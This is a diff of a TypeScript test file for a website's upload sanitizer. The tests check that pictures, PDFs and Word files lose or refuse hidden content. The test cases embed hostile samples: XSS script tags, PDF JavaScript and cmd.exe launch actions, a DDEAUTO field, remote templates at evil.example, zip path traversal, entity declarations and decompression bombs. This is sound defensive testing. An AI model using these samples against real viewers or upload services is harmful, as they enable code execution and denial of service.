@@ -9,7 +9,7 @@ import { ownFolders } from 'tools/content/folders.ts';
 import { documentsFolder } from 'tools/content/markdown.ts';
 import { textOf } from 'tools/content/search/document-text.ts';
 import { filesBelow } from 'tools/workspace/repository.ts';
-import { describe, expect, it } from 'vitest';
+import { expect, it } from 'vitest';
 import type { Refused } from '../refused.ts';
 import { Uploads } from './uploads.ts';
 
@@ -27,57 +27,55 @@ const refusal = (name: string, bytes: Uint8Array): Promise<string> =>
     ({ status, words }: Refused) => `${status} ${words.en}`,
   );
 
-describe('a picture', () => {
-  const name = 'pictures/events/open-day-2026.jpg';
+const name = 'pictures/events/open-day-2026.jpg';
 
-  const rotated = photo(4000, 2000)
-    .withExif({ IFD3: { GPSLatitude: '1/1 17/1 0/1' } })
-    .withMetadata({ orientation: 6 });
-  it.each([
-    ['of a phone', rotated, { width: 2000, height: 4000 }],
-    ['of PNG', photo(4000, 3000).png(), { width: 2560, height: 1920 }],
-    ['of WebP', photo(1300, 970).webp(), { width: 1300, height: 970 }],
-    ['of a panorama, as high as a page needs', photo(6000, 1200), { width: 4800, height: 960 }],
-  ])('%s becomes an upright JPEG without metadata', async (_what, image, size) => {
-    const { id } = await uploads.add(name, await image.toBuffer());
-    const { format, width, height, exif, orientation } = await sharp(read(id)).metadata();
-    expect({ format, width, height, exif, orientation }).toEqual({ format: 'jpeg', ...size });
-  });
+const rotated = photo(4000, 2000)
+  .withExif({ IFD3: { GPSLatitude: '1/1 17/1 0/1' } })
+  .withMetadata({ orientation: 6 });
+it.each([
+  ['of a phone', rotated, { width: 2000, height: 4000 }],
+  ['of PNG', photo(4000, 3000).png(), { width: 2560, height: 1920 }],
+  ['of WebP', photo(1300, 970).webp(), { width: 1300, height: 970 }],
+  ['of a panorama, as high as a page needs', photo(6000, 1200), { width: 4800, height: 960 }],
+])('a picture %s becomes an upright JPEG without metadata', async (_what, image, size) => {
+  const { id } = await uploads.add(name, await image.toBuffer());
+  const { format, width, height, exif, orientation } = await sharp(read(id)).metadata();
+  expect({ format, width, height, exif, orientation }).toEqual({ format: 'jpeg', ...size });
+});
 
-  it('is refused if it is too small for a page of its own, and only then', async () => {
-    const small = await photo(1280, 800).toBuffer();
-    expect(await refusal(name, small)).toBe(
-      '422 This picture has 1280 × 800 pixels, and a page needs at least 1280 × 960. Choose a larger one, or crop less.',
-    );
-    expect(await refusal('pictures/gallery/open-day.jpg', small)).toBe('accepted');
-  });
+it('a picture is refused if it is too small for a page of its own, and only then', async () => {
+  const small = await photo(1280, 800).toBuffer();
+  expect(await refusal(name, small)).toBe(
+    '422 This picture has 1280 × 800 pixels, and a page needs at least 1280 × 960. Choose a larger one, or crop less.',
+  );
+  expect(await refusal('pictures/gallery/open-day.jpg', small)).toBe('accepted');
+});
 
-  it.each(['jpeg', 'png', 'webp'] as const)('in %s loses a page or an archive hidden in it', async (format) => {
-    const own = await photo(1280, 960).toFormat(format).toBuffer();
-    const page = Buffer.from('<script>alert(1)</script>');
-    const behind = Buffer.concat([own, page, makeZip({ 'a.html': page })]);
-    const inside = await sharp(own).withXmp(`<x:xmpmeta>${page}</x:xmpmeta>`).toFormat(format).toBuffer();
-    expect((await sharp(inside).metadata()).xmp?.includes(page)).toBe(true);
-    const { id } = await uploads.add(name, own);
-    for (const both of [behind, inside]) expect((await uploads.add(name, both)).id).toBe(id);
-  });
+it.each(['jpeg', 'png', 'webp'] as const)('a picture in %s loses a page or an archive hidden in it', async (format) => {
+  const own = await photo(1280, 960).toFormat(format).toBuffer();
+  const page = Buffer.from('<script>alert(1)</script>');
+  const behind = Buffer.concat([own, page, makeZip({ 'a.html': page })]);
+  const inside = await sharp(own).withXmp(`<x:xmpmeta>${page}</x:xmpmeta>`).toFormat(format).toBuffer();
+  expect((await sharp(inside).metadata()).xmp?.includes(page)).toBe(true);
+  const { id } = await uploads.add(name, own);
+  for (const both of [behind, inside]) expect((await uploads.add(name, both)).id).toBe(id);
+});
 
-  it('is refused for its pixels before they are unpacked', async () => {
-    const bomb = await photo(1, 1).png().toBuffer();
-    bomb.writeUInt32BE(30_000, 16);
-    bomb.writeUInt32BE(30_000, 20);
-    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
-    expect(await refusal(name, bomb)).toBe('413 This picture has too many pixels. Choose a smaller one.');
-  });
+it('a picture is refused for its pixels before they are unpacked', async () => {
+  const bomb = await photo(1, 1).png().toBuffer();
+  bomb.writeUInt32BE(30_000, 16);
+  bomb.writeUInt32BE(30_000, 20);
+  bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
+  expect(await refusal(name, bomb)).toBe('413 This picture has too many pixels. Choose a smaller one.');
+});
 
-  it.each([
-    '<svg xmlns="http://www.w3.org/2000/svg" width="1300" height="1000"><script>alert(1)</script></svg>',
-    '<!doctype html><script>alert(1)</script>',
-    '\xff\xd8\xff\xe0',
-    whole.toString('latin1', 0, whole.length / 2),
-  ])('is refused if it is %.20j', async (bytes) => {
-    expect(await refusal(name, Buffer.from(bytes, 'latin1'))).toMatch(/^422 This file is not a photo/);
-  });
+it.each([
+  '<svg xmlns="http://www.w3.org/2000/svg" width="1300" height="1000"><script>alert(1)</script></svg>',
+  '<!doctype html><script>alert(1)</script>',
+  '\xff\xd8\xff\xe0',
+  whole.toString('latin1', 0, whole.length / 2),
+])('a picture is refused if it is %.20j', async (bytes) => {
+  expect(await refusal(name, Buffer.from(bytes, 'latin1'))).toMatch(/^422 This file is not a photo/);
 });
 
 it.each([
@@ -130,147 +128,141 @@ async function published(bytes: Buffer): Promise<string> {
   return context.enumerateIndirectObjects().join('\n');
 }
 
-describe('a document', () => {
-  const ofContent = filesBelow(path.join(ownFolders.content, documentsFolder));
+const ofContent = filesBelow(path.join(ownFolders.content, documentsFolder));
 
-  it.each(ofContent)('of the site is accepted: %s', async (name) => {
-    const bytes = readFileSync(path.join(ownFolders.content, documentsFolder, name));
-    const upload = await uploads.add(`${documentsFolder}/${name}`, bytes);
-    expect(upload).toEqual({ name: `${documentsFolder}/${name}`, id: upload.id, bytes: read(upload.id).length });
-    const extension = path.extname(name);
-    expect(await textOf(read(upload.id), extension)).toBe(await textOf(bytes, extension));
-    expect(await uploads.add(upload.name, read(upload.id))).toEqual(upload);
-  });
-
-  const submit = '/S /SubmitForm /F (https://example.org)';
-  it.each([
-    ['in an object', packed(deflateSync(program))],
-    ['with a disguised name', pdf('/Open#41ction << /S /J#61vaScript /JS (app.alert(1)) >>')],
-    ['for a form', pdf(`/OpenAction << ${submit} >>`)],
-    ['in another file', pdf('/OpenAction << /S /GoToR /F (\\\\host\\file) /D [0 /Fit] >>')],
-    ['after a link', notes(`/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next << ${submit} >> >>`)],
-    ['in an address', notes('/Subtype /Link /A << /S /URI /URI (javas\\143ript:app.alert\\(1\\)) >>')],
-    ['in a film', notes('/Subtype /Screen /A << /S /Rendition /JS (app.alert(1)) >>')],
-    ['in a form', pdf('/AcroForm << /Fields [] /XFA (x) /AA << /K << /S /JavaScript /JS (app.alert(1)) >> >> >>')],
-    ['attached', pdf('/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 4 0 R >> >>] >> >>')],
-    ['after an older version', Buffer.concat([pdf(), pdf('/AA << /WC << /S /Launch /F (cmd.exe) >> >>')])],
-  ])('is published without a program %s', async (_where, bytes) => {
-    const objects = await published(bytes);
-    expect(objects).toContain('/Type /Page\n');
-    expect(objects).not.toMatch(/Action|Next|XFA|script|Launch|alert|Submit|GoToR|Rendition|Filespec|Embedded/i);
-  });
-
-  it.each([
-    ['attached files', pdf('/Names << /EmbeddedFiles << /Names [] >> >>'), true],
-    ['a form of XFA', pdf('/AcroForm << /Fields [] /XFA (x) >>'), true],
-    ['its own form', pdf('/AcroForm << /Fields [] >>'), undefined],
-  ])('with %s is told what it loses', async (_what, bytes, lost) => {
-    expect((await uploads.add('resources/files/a.pdf', bytes)).lost).toBe(lost);
-  });
-
-  it('keeps links to places in it and to addresses', async () => {
-    const link = (uri: string) => `/Subtype /Link /A << /S /URI /URI (${uri}) >>`;
-    const honest = [link('https://example.org/a\\(1\\)'), link('mailto:a@example.org'), '/Subtype /Link /Dest [3 0 R]'];
-    const objects = await published(notes(...honest, link('file:///etc/passwd')));
-    expect(objects.match(/(?<=\/URI )\S.*|\/Dest .*/g)).toEqual([
-      '(https://example.org/a\\(1\\))',
-      '(mailto:a@example.org)',
-      '/Dest [ 3 0 R ]',
-    ]);
-  });
-
-  it.each([
-    ['a password', pdf('', 'trailer\n<< /Encrypt 9 0 R >>\n'), /protected by a password/],
-    ['a web page with its name', Buffer.from('<!doctype html>'), /not a PDF/],
-    ['nothing after its first line', Buffer.from('%PDF-1.7\n'), /not a PDF/],
-    ['brackets that never close', Buffer.from(`%PDF-1.7\n1 0 obj\n${'<<'.repeat(200_000)}`), /not a PDF|too much time/],
-    ['gigabytes in a few bytes', packed(deflateSync(Buffer.alloc(2_000_000_000))), /not a PDF|too large once opened/],
-  ])('is refused with %s', async (_what, bytes, words) => {
-    expect(await refusal('resources/files/a.pdf', bytes)).toMatch(words);
-  });
-
-  const types = (main: string) => ({
-    '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.${main}"/></Types>`,
-  });
-  const word = {
-    ...types('wordprocessingml.document.main+xml'),
-    'word/document.xml': '<w:document><w:p>Bonjour</w:p></w:document>',
-  };
-  it.each([
-    ['behind it', Buffer.concat([makeZip(word), Buffer.from('<html>')])],
-    ['larger than it says', understated(makeZip({ ...word, 'word/document.xml': Buffer.alloc(101_000_000, ' ') }))],
-  ])('of Word is rewritten without what is %s', async (_where, bytes) => {
-    const { id } = await uploads.add('resources/files/a.docx', bytes);
-    expect(read(id).length).toBeLessThan(1000);
-    expect(read(id).includes('<html>')).toBe(false);
-    expect(Object.keys(unzipSync(read(id)))).toEqual(Object.keys(word));
-  });
-
-  const rels = (...list: string[]) => ({
-    'word/_rels/document.xml.rels': `<Relationships>${list.map((one, id) => `<Relationship Id="r${id}" ${one}/>`).join('')}</Relationships>`,
-  });
-  const type = (name: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}"`;
-  const outside = (name: string, target: string) => rels(`${type(name)} Target="${target}" TargetMode="External"`);
-  const field = (code: string) => ({ 'word/document.xml': `<w:p><w:fldChar w:fldCharType="begin"/>${code}</w:p>` });
-
-  it('of Word comes out with its text, pictures and web links alone, and without its author', async () => {
-    const link = `${type('hyperlink')} Target="https://example.org/" TargetMode="External"`;
-    const template = `${type('attachedTemplate')} Target="http://evil.example/t.dotm" TargetMode="External"`;
-    const picture = `${type('image')} Target="media/a.png"`;
-    const bytes = makeZip({
-      ...word,
-      ...rels(link, picture, `${type('settings')} Target="settings.xml"`),
-      'word/media/a.png': 'png',
-      'word/settings.xml': '<w:settings><w:attachedTemplate r:id="r0"/></w:settings>',
-      'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r0" ${template}/></Relationships>`,
-      'word/document.xml': '<w:document><w:ins w:author="Secret Author"><w:p>Bonjour</w:p></w:ins></w:document>',
-      'word/embeddings/x.exe': 'MZ',
-      'docProps/core.xml': '<dc:creator>Secret Author</dc:creator>',
-      'customXml/item1.xml': '<a>Secret Author</a>',
-    });
-    const { id } = await uploads.add('resources/files/a.docx', bytes);
-    const files = unzipSync(read(id));
-    const all = Buffer.concat(Object.values(files)).toString();
-    const parts = ['word/_rels/document.xml.rels', 'word/document.xml', 'word/media/a.png'];
-    expect(Object.keys(files).sort()).toEqual(['[Content_Types].xml', ...parts]);
-    for (const text of ['Bonjour', 'https://example.org/']) expect(all).toContain(text);
-    expect(all).not.toMatch(/Secret Author|evil|settings|MZ/);
-  });
-
-  it.each([
-    ['a program or a table in it', rels(`${type('oleObject')} Target="embeddings/oleObject1.bin"`)],
-    ['an object from elsewhere', outside('oleObject', 'http://evil.example/a.html!')],
-    ['a picture from another machine', outside('image', 'file://server/share/a.png')],
-    ['a link to a file', outside('hyperlink', 'file:///C:/a.exe')],
-    ['a field that starts a program', field('<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText>')],
-    [
-      'such a field in one piece',
-      { 'word/document.xml': '<w:fldSimple w:x=">" w:instr = " &#73;NCLUDETEXT &quot;x&quot;"/>' },
-    ],
-    ['entities', { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><w:document/>' }],
-  ])('of Word is refused with %s, and the way round is named', async (_what, more) => {
-    expect(await refusal('resources/files/a.docx', makeZip({ ...word, ...more }))).toMatch(/^422 .*PDF/);
-  });
-
-  it.each([
-    ['macros', makeZip({ ...word, 'word/vbaProject.bin': 'x' }), /macros/],
-    ['macros in its type', makeZip({ ...word, ...types('ms-word.document.macroEnabled.main+xml') }), /macros/],
-    ['a path out of it', makeZip({ ...word, '../../etc/passwd': 'x' }), /not a Word document/],
-    ['more than 100 MB inside', makeZip({ ...word, 'word/a.xml': Buffer.alloc(101_000_000) }), /too large once opened/],
-    ['something before it', Buffer.concat([Buffer.from('GIF89a'), makeZip(word)]), /not a Word document/],
-    [
-      'another main part',
-      makeZip({ ...word, ...types('presentationml.presentation.main+xml') }),
-      /not a Word document/,
-    ],
-    ['no main part', makeZip(types('wordprocessingml.document.main+xml')), /not a Word document/],
-    ['an end cut off', makeZip(word).subarray(0, 100), /not a Word document/],
-  ])('of Word is refused with %s', async (_what, bytes, words) => {
-    expect(await refusal('resources/files/a.docx', bytes)).toMatch(words);
-  });
+it.each(ofContent)('a document of the site is accepted: %s', async (name) => {
+  const bytes = readFileSync(path.join(ownFolders.content, documentsFolder, name));
+  const upload = await uploads.add(`${documentsFolder}/${name}`, bytes);
+  expect(upload).toEqual({ name: `${documentsFolder}/${name}`, id: upload.id, bytes: read(upload.id).length });
+  const extension = path.extname(name);
+  expect(await textOf(read(upload.id), extension)).toBe(await textOf(bytes, extension));
+  expect(await uploads.add(upload.name, read(upload.id))).toEqual(upload);
 });
 
-it('has no address but its hash', () => {
+const submit = '/S /SubmitForm /F (https://example.org)';
+it.each([
+  ['in an object', packed(deflateSync(program))],
+  ['with a disguised name', pdf('/Open#41ction << /S /J#61vaScript /JS (app.alert(1)) >>')],
+  ['for a form', pdf(`/OpenAction << ${submit} >>`)],
+  ['in another file', pdf('/OpenAction << /S /GoToR /F (\\\\host\\file) /D [0 /Fit] >>')],
+  ['after a link', notes(`/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next << ${submit} >> >>`)],
+  ['in an address', notes('/Subtype /Link /A << /S /URI /URI (javas\\143ript:app.alert\\(1\\)) >>')],
+  ['in a film', notes('/Subtype /Screen /A << /S /Rendition /JS (app.alert(1)) >>')],
+  ['in a form', pdf('/AcroForm << /Fields [] /XFA (x) /AA << /K << /S /JavaScript /JS (app.alert(1)) >> >> >>')],
+  ['attached', pdf('/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 4 0 R >> >>] >> >>')],
+  ['after an older version', Buffer.concat([pdf(), pdf('/AA << /WC << /S /Launch /F (cmd.exe) >> >>')])],
+])('a PDF is published without a program %s', async (_where, bytes) => {
+  const objects = await published(bytes);
+  expect(objects).toContain('/Type /Page\n');
+  expect(objects).not.toMatch(/Action|Next|XFA|script|Launch|alert|Submit|GoToR|Rendition|Filespec|Embedded/i);
+});
+
+it.each([
+  ['attached files', pdf('/Names << /EmbeddedFiles << /Names [] >> >>'), true],
+  ['a form of XFA', pdf('/AcroForm << /Fields [] /XFA (x) >>'), true],
+  ['its own form', pdf('/AcroForm << /Fields [] >>'), undefined],
+])('a PDF with %s is told what it loses', async (_what, bytes, lost) => {
+  expect((await uploads.add('resources/files/a.pdf', bytes)).lost).toBe(lost);
+});
+
+it('a PDF keeps links to places in it and to addresses', async () => {
+  const link = (uri: string) => `/Subtype /Link /A << /S /URI /URI (${uri}) >>`;
+  const honest = [link('https://example.org/a\\(1\\)'), link('mailto:a@example.org'), '/Subtype /Link /Dest [3 0 R]'];
+  const objects = await published(notes(...honest, link('file:///etc/passwd')));
+  expect(objects.match(/(?<=\/URI )\S.*|\/Dest .*/g)).toEqual([
+    '(https://example.org/a\\(1\\))',
+    '(mailto:a@example.org)',
+    '/Dest [ 3 0 R ]',
+  ]);
+});
+
+it.each([
+  ['a password', pdf('', 'trailer\n<< /Encrypt 9 0 R >>\n'), /protected by a password/],
+  ['a web page with its name', Buffer.from('<!doctype html>'), /not a PDF/],
+  ['nothing after its first line', Buffer.from('%PDF-1.7\n'), /not a PDF/],
+  ['brackets that never close', Buffer.from(`%PDF-1.7\n1 0 obj\n${'<<'.repeat(200_000)}`), /not a PDF|too much time/],
+  ['gigabytes in a few bytes', packed(deflateSync(Buffer.alloc(2_000_000_000))), /not a PDF|too large once opened/],
+])('a PDF is refused with %s', async (_what, bytes, words) => {
+  expect(await refusal('resources/files/a.pdf', bytes)).toMatch(words);
+});
+
+const types = (main: string) => ({
+  '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.${main}"/></Types>`,
+});
+const word = {
+  ...types('wordprocessingml.document.main+xml'),
+  'word/document.xml': '<w:document><w:p>Bonjour</w:p></w:document>',
+};
+it.each([
+  ['behind it', Buffer.concat([makeZip(word), Buffer.from('<html>')])],
+  ['larger than it says', understated(makeZip({ ...word, 'word/document.xml': Buffer.alloc(101_000_000, ' ') }))],
+])('a Word file is rewritten without what is %s', async (_where, bytes) => {
+  const { id } = await uploads.add('resources/files/a.docx', bytes);
+  expect(read(id).length).toBeLessThan(1000);
+  expect(read(id).includes('<html>')).toBe(false);
+  expect(Object.keys(unzipSync(read(id)))).toEqual(Object.keys(word));
+});
+
+const rels = (...list: string[]) => ({
+  'word/_rels/document.xml.rels': `<Relationships>${list.map((one, id) => `<Relationship Id="r${id}" ${one}/>`).join('')}</Relationships>`,
+});
+const type = (name: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}"`;
+const outside = (name: string, target: string) => rels(`${type(name)} Target="${target}" TargetMode="External"`);
+const field = (code: string) => ({ 'word/document.xml': `<w:p><w:fldChar w:fldCharType="begin"/>${code}</w:p>` });
+
+it('a Word file comes out with its text, pictures and web links alone, and without its author', async () => {
+  const link = `${type('hyperlink')} Target="https://example.org/" TargetMode="External"`;
+  const template = `${type('attachedTemplate')} Target="http://evil.example/t.dotm" TargetMode="External"`;
+  const picture = `${type('image')} Target="media/a.png"`;
+  const bytes = makeZip({
+    ...word,
+    ...rels(link, picture, `${type('settings')} Target="settings.xml"`),
+    'word/media/a.png': 'png',
+    'word/settings.xml': '<w:settings><w:attachedTemplate r:id="r0"/></w:settings>',
+    'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r0" ${template}/></Relationships>`,
+    'word/document.xml': '<w:document><w:ins w:author="Secret Author"><w:p>Bonjour</w:p></w:ins></w:document>',
+    'word/embeddings/x.exe': 'MZ',
+    'docProps/core.xml': '<dc:creator>Secret Author</dc:creator>',
+    'customXml/item1.xml': '<a>Secret Author</a>',
+  });
+  const { id } = await uploads.add('resources/files/a.docx', bytes);
+  const files = unzipSync(read(id));
+  const all = Buffer.concat(Object.values(files)).toString();
+  const parts = ['word/_rels/document.xml.rels', 'word/document.xml', 'word/media/a.png'];
+  expect(Object.keys(files).sort()).toEqual(['[Content_Types].xml', ...parts]);
+  for (const text of ['Bonjour', 'https://example.org/']) expect(all).toContain(text);
+  expect(all).not.toMatch(/Secret Author|evil|settings|MZ/);
+});
+
+it.each([
+  ['a program or a table in it', rels(`${type('oleObject')} Target="embeddings/oleObject1.bin"`)],
+  ['an object from elsewhere', outside('oleObject', 'http://evil.example/a.html!')],
+  ['a picture from another machine', outside('image', 'file://server/share/a.png')],
+  ['a link to a file', outside('hyperlink', 'file:///C:/a.exe')],
+  ['a field that starts a program', field('<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText>')],
+  [
+    'such a field in one piece',
+    { 'word/document.xml': '<w:fldSimple w:x=">" w:instr = " &#73;NCLUDETEXT &quot;x&quot;"/>' },
+  ],
+  ['entities', { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><w:document/>' }],
+])('a Word file is refused with %s, and the way round is named', async (_what, more) => {
+  expect(await refusal('resources/files/a.docx', makeZip({ ...word, ...more }))).toMatch(/^422 .*PDF/);
+});
+
+it.each([
+  ['macros', makeZip({ ...word, 'word/vbaProject.bin': 'x' }), /macros/],
+  ['macros in its type', makeZip({ ...word, ...types('ms-word.document.macroEnabled.main+xml') }), /macros/],
+  ['a path out of it', makeZip({ ...word, '../../etc/passwd': 'x' }), /not a Word document/],
+  ['more than 100 MB inside', makeZip({ ...word, 'word/a.xml': Buffer.alloc(101_000_000) }), /too large once opened/],
+  ['something before it', Buffer.concat([Buffer.from('GIF89a'), makeZip(word)]), /not a Word document/],
+  ['another main part', makeZip({ ...word, ...types('presentationml.presentation.main+xml') }), /not a Word document/],
+  ['no main part', makeZip(types('wordprocessingml.document.main+xml')), /not a Word document/],
+  ['an end cut off', makeZip(word).subarray(0, 100), /not a Word document/],
+])('a Word file is refused with %s', async (_what, bytes, words) => {
+  expect(await refusal('resources/files/a.docx', bytes)).toMatch(words);
+});
+
+it('an upload has no address but its hash', () => {
   expect(uploads.fileOf('../../etc/passwd')).toBeUndefined();
   expect(readdirSync(folder).filter((name) => name.startsWith('.'))).toEqual([]);
 });
